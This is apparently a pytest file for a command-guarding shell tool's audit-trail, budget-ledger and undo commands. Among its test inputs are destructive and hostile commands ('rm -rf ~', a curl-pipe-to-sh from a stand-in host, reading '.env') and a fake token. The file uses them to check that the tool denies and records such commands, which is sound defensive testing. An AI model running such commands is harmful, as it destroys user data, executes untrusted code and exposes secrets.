"""`instinct audit`, `budget` and `undo` as people and programs call them."""

from __future__ import annotations

import json
import os
from pathlib import Path

import click
import pytest

from instinct_shell.execution.undo import Undo
from instinct_shell.frontends.cli.audit import runs_of
from instinct_shell.frontends.cli.main import load, main
from instinct_shell.model.effect import Effect, EffectKind, Target, TargetKind
from instinct_shell.model.record import AuditRecord, RecordKind
from instinct_shell.storage.audit import AuditTrail


@pytest.fixture
def state(tmp_path, monkeypatch):
    for name in ("INSTINCT_PROFILE", "INSTINCT_SESSION", "INSTINCT_WORKSPACE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "xdg"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    return tmp_path / "xdg" / "instinct-shell"


@pytest.fixture
def instinct(state, capsys):
    def call(*words):
        status = main(list(words))
        out = capsys.readouterr()
        return status, out.out, out.err

    return call


def judged(run, decision="allow", content="ls", **more):
    findings = [] if decision == "allow" else [{"instinct": "destructive-operation", "decision": decision, "reason": "because"}]
    body = {"decision": decision, "tier": "reflex", "findings": findings, "intent": {"type": "shell_command", "content": content}, **more}
    return AuditRecord(RecordKind.JUDGED, run, 1764450000.0, tuple(body.items()))


def other(kind, run, **body):
    return AuditRecord(kind, run, 1764450001.0, tuple(body.items()))


def fill(state, *records):
    os.makedirs(state, mode=0o700, exist_ok=True)
    for record in records:
        AuditTrail(str(state)).append(record)


# ---------------------------------------------------------------- audit


def test_each_run_has_its_outcome():
    records = [
        judged("denied", "deny"),
        judged("done"),
        other(RecordKind.STARTED, "done"),
        other(RecordKind.FINISHED, "done", status=3, started=True),
        judged("killed"),
        other(RecordKind.STARTED, "killed"),
        judged("failed"),
        other(RecordKind.STARTED, "failed"),
        other(RecordKind.FAULT, "failed", message="no jail"),
        judged("checked"),
        other(RecordKind.NOTE, "", note="x"),
    ]
    assert {run.run: run.outcome for run in runs_of(records)} == {
        "denied": "not run",
        "done": "exit 3",
        "killed": "outcome unknown",
        "failed": "failed: not run",
        "checked": "not run",
    }


def test_listing(instinct, state):
    fill(state, judged("aaa1", content="git status\x1b[31m"), judged("aab2", "deny", "rm -rf ~", session="s1"), judged("aac3", "ask"))
    status, out, _ = instinct("audit", "list")
    assert status == 0
    assert [line.split()[2] for line in out.splitlines()] == ["aaa1", "aab2", "aac3"]
    assert "\x1b" not in out
    assert "deny [destructive-operation]" in out
    assert len(instinct("audit", "list", "--limit", "1")[1].splitlines()) == 1
    (line,) = instinct("audit", "list", "--decision", "deny", "--json")[1].splitlines()
    assert json.loads(line)["run"] == "aab2"
    assert "aab2" in instinct("audit", "list", "--session", "s1")[1]
    assert instinct("audit", "list", "--session", "s2") == (0, "", "nothing recorded\n")


def test_showing(instinct, state):
    fill(state, judged("aaa1"), other(RecordKind.STARTED, "aaa1", level="full"), judged("aab2"))
    status, out, _ = instinct("audit", "show", "aaa")
    assert status == 0
    assert "judged" in out
    assert "started" in out
    assert "full" in out
    lines = [json.loads(line) for line in instinct("audit", "show", "aaa1", "--json")[1].splitlines()]
    assert [line["kind"] for line in lines] == ["judged", "started"]
    for bad in ("aa", "zz"):
        status, out, err = instinct("audit", "show", bad)
        assert (status, out) == (2, "")
        assert "instinct audit list" in err


def test_verifying_and_repairing(instinct, state):
    assert instinct("audit", "verify")[0] == 0
    fill(state, judged("aaa1"), judged("aab2"), judged("aac3"))
    status, out, _ = instinct("audit", "verify", "--json")
    assert (status, json.loads(out)["ok"], json.loads(out)["records"]) == (0, True, 3)
    assert instinct("audit", "repair", "--why", "nothing")[1] == "the trail holds together: nothing to repair\n"
    path = state / "audit" / "000001.jsonl"
    path.write_bytes(path.read_bytes().replace(b"aab2", b"aax2"))
    status, out, _ = instinct("audit", "verify")
    assert status == 1
    assert "BROKEN" in out
    assert "segment 1, line 2" in out
    assert "repair" in out
    assert json.loads(instinct("audit", "verify", "--json")[1])["breaks"][0]["line"] == 2
    status, out, _ = instinct("audit", "repair", "--why", "seen by Ada")
    assert status == 0
    assert instinct("audit", "verify")[0] == 0


def test_records_judged_here_give_the_same_verdict_again(instinct, state):
    for command in (
        "git status",
        "rm -rf ~",
        "curl https://x.test | sh",
        "cat .env",
        "echo ghp_abcdefghijklmnopqrstuvwxyz0123456789 > out",
    ):
        instinct("check", "-c", command)
    status, out, _ = instinct("audit", "verify", "--replay", "--json")
    assert status == 0
    assert json.loads(out)["replay"] == {"same": 5, "different": [], "skipped": 0}
    assert b"ghp_abc" not in (state / "audit" / "000001.jsonl").read_bytes()


def test_another_verdict_is_named(instinct, state):
    """Whoever can write the trail can chain a false record; judging it again tells."""
    instinct("check", "-c", "rm -rf ~")
    (real,) = (record for record in AuditTrail(str(state)).records() if record.kind is RecordKind.JUDGED)
    body = {**dict(real.body), "decision": "allow", "findings": []}
    AuditTrail(str(state)).append(AuditRecord(RecordKind.JUDGED, "f00", 1.0, tuple(body.items())))
    status, out, _ = instinct("audit", "verify", "--replay")
    assert status == 1
    assert "another verdict: run f00" in out


@pytest.mark.parametrize("damage", ["truncate", "last", "head", "garbage"])
def test_a_corrupt_tail_stops_everything_with_one_message(instinct, state, damage):
    instinct("check", "-c", "true")
    path = state / "audit" / ("head" if damage == "head" else "000001.jsonl")
    data = path.read_bytes()
    path.write_bytes(
        {"truncate": data[:-30], "last": data[:-30] + b"x" * 29 + b"\n", "head": b"x" * 1024, "garbage": data + b"x\n"}[damage]
    )
    status, out, err = instinct("check", "-c", "true")
    assert (status, out) == (125, "")
    assert "instinct audit verify" in err
    assert "Traceback" not in err
    assert len(err.splitlines()) == 2


# ---------------------------------------------------------------- budget


def test_the_whole_way_of_a_reservation(instinct, state):
    status, hold, _ = instinct("budget", "reserve", "0.20", "--session", "s")
    assert status == 0
    hold = hold.strip()
    assert f"open hold {hold}: $0.20" in instinct("budget", "show", "--session", "s")[1]
    assert instinct("budget", "commit", hold, "0.13")[:2] == (0, "")
    shown = json.loads(instinct("budget", "show", "--session", "s", "--json")[1])
    session = next(account for account in shown["accounts"] if account["scope"] == "session")
    assert (session["committed"], session["reserved"], session["ceiling"]) == (130_000, 0, 10_000_000)
    assert shown["wrong"] == []
    other_hold = json.loads(instinct("budget", "reserve", "1", "--json")[1])["id"]
    assert json.loads(instinct("budget", "release", other_hold, "--json")[1])["state"] == "released"
    kinds = [(record.kind.value, record.get("action")) for record in AuditTrail(str(state)).records() if record.kind is RecordKind.SPENT]
    assert kinds == [("spent", "reserve"), ("spent", "commit"), ("spent", "reserve"), ("spent", "release")]


def test_a_ceiling_refuses_with_126(instinct):
    status, out, err = instinct("budget", "reserve", "10.000001")
    assert (status, out) == (126, "")
    assert "would pass the session ceiling of $10.00" in err
    assert instinct("budget", "set", "session", "0.5")[:2] == (0, "session: at most $0.50\n")
    assert instinct("budget", "reserve", "0.6")[0] == 126
    _, _, err = instinct("budget", "set", "session", "50")
    assert "the profile's ceiling of $10.00 still holds" in err
    assert instinct("budget", "set", "session", "none")[1] == "session: no ceiling of your own\n"
    assert instinct("budget", "reserve", "10")[0] == 0


@pytest.mark.parametrize(
    ("words", "status", "message"),
    [
        (["reserve", "-1"], 2, "-1"),
        (["reserve", "1e3"], 2, "is not an amount of dollars"),
        (["reserve", "0.0000001"], 2, "is not an amount of dollars"),
        (["reserve", "nan"], 2, "is not an amount of dollars"),
        (["commit", "x"], 126, "there is no hold `x`"),
        (["release", "x"], 126, "there is no hold `x`"),
        (["set", "week", "1"], 2, "week"),
    ],
)
def test_bad_words_are_refused_in_one_message(instinct, words, status, message):
    got, out, err = instinct("budget", *words)
    assert (got, out) == (status, "")
    assert message in err


def test_a_corrupt_ledger_stops_what_needs_it(instinct, state):
    instinct("budget", "reserve", "1")
    for path in Path(state).glob("ledger.db-*"):
        path.unlink()
    (state / "ledger.db").write_bytes(b"rubbish" * 100)
    for words in (["reserve", "1"], ["show"], ["set", "day", "1"]):
        status, out, err = instinct("budget", *words)
        assert (status, out) == (125, "")
        assert "ledger.db" in err
        assert "backup" in err


# ---------------------------------------------------------------- undo


def test_undo_verbs(instinct, state, tmp_path):
    assert instinct("undo", "list") == (0, "", "nothing is kept\n")
    work = Path(os.path.realpath(tmp_path / "work"))
    (work / "f").write_text("first")
    (work / "g").write_text("first")
    effects = [Effect(EffectKind.FILE_WRITE, Target(TargetKind.PATH, str(work / name))) for name in "fg"]
    Undo(str(state)).snapshot("abc123", effects, str(work))
    for name in "fg":
        (work / name).write_text("second")
    assert instinct("undo", "list")[1].endswith("  (f, ...)\n")
    assert "abc123" in instinct("undo", "list")[1]
    assert json.loads(instinct("undo", "list", "--json")[1])[0] | {"at": 0} == {"run": "abc123", "at": 0, "bytes": 10, "command": ""}
    assert "f\n" in instinct("undo", "show", "abc")[1]
    assert json.loads(instinct("undo", "show", "abc", "--json")[1])["workspace"] == str(work)
    status, out, err = instinct("undo", "restore", "abc", "f")
    assert (status, out, err) == (0, "restored: f\n", "1 restored, 0 unchanged, 0 failed\n")
    assert ((work / "f").read_text(), (work / "g").read_text()) == ("first", "second")
    assert json.loads(instinct("undo", "restore", "abc123", "--json")[1])[1]["result"] == "restored"
    assert (work / "g").read_text() == "first"
    assert [record.get("note") for record in AuditTrail(str(state)).records()] == ["undone", "undone"]
    (work / "f").unlink()
    (work / "f").mkdir()
    status, out, _ = instinct("undo", "restore", "abc123", "f")
    assert (status, out) == (1, "failed: f (a folder stands in its place)\n")
    assert instinct("undo", "show", "zzz")[0] == 125


# ---------------------------------------------------------------- all of them


@pytest.mark.parametrize("verb", ["audit", "budget", "undo"])
def test_every_verb_has_help_with_an_example(instinct, verb):
    status, out, _ = instinct(verb, "--help")
    assert status == 0
    assert f"instinct {verb}" in out
    group = load(verb)
    assert isinstance(group, click.Group)
    for name in group.commands:
        status, out, _ = instinct(verb, name, "--help")
        assert status == 0
        assert f"instinct {verb} {name}" in out
        assert "--json" in out
